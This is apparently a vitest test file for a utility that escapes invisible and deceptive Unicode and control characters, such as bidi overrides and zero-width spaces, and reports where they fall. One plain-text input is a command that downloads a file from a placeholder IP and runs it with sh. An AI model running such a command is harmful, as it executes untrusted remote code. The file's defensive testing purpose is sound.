import { describe, expect, it } from 'vitest';
import { pieces, visible } from './visible';

describe('visible', () => {
  it('leaves plain text as it is', () => {
    expect(visible('wget http://198.51.100.7/a;sh a')).toBe('wget http://198.51.100.7/a;sh a');
    expect(pieces('größer 日本 🦊')).toEqual([{ kind: 'text', text: 'größer 日本 🦊', start: 0, end: 12 }]);
  });

  it.each([
    ['a\u202Egnp.exe', 'a\\u{202E}gnp.exe'],
    ['x\u200Bb', 'x\\u{200B}b'],
    ['\u2066a\u2069', '\\u{2066}a\\u{2069}'],
    ['\u001b[2J', '\\e[2J'],
    ['a\tb\nc\r', 'a\\tb\\nc\\r'],
    ['\u0000\u0007\u009b', '\\0\\x07\\x9B'],
    ['a\u00a0b', 'a\\xA0b'],
    ['\ufeffx', '\\u{FEFF}x'],
    ['\ud800', '\\u{D800}'],
    ['\u{e0041}', '\\u{E0041}'],
    ['\u3164', '\\u{3164}'],
  ])('escapes what cannot be seen or deceives: %j', (text, shown) => {
    expect(visible(text)).toBe(shown);
  });

  it('covers all of the text in order', () => {
    const text = 'a\u202eb\u0000\u0001c🦊\u200d🦊';
    const found = pieces(text);
    expect(found.map((piece) => text.slice(piece.start, piece.end)).join('')).toBe(text);
    expect(found.at(0)?.start).toBe(0);
    expect(found.at(-1)?.end).toBe(text.length);
  });
});
